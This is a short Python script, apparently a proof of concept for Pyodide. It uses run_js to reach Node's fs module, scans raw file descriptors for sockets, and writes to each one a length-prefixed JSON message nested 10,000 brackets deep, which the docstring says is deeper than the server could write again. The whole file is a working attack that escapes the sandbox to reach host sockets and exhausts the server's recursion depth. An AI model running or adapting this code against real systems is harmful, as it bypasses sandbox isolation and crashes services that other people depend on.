"""Sends a message that nests deeper than the server could write again."""

from pyodide.code import run_js

send = run_js("""(bytes) => {
  const fs = process.getBuiltinModule("fs");
  for (let number = 3; number < 64; number++)
    try {
      if (fs.fstatSync(number).isSocket()) fs.writeSync(number, bytes.toJs());
    } catch {}
}""")
text = b'J{"type": "live", "x": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"
send(len(text).to_bytes(4, "little") + text)
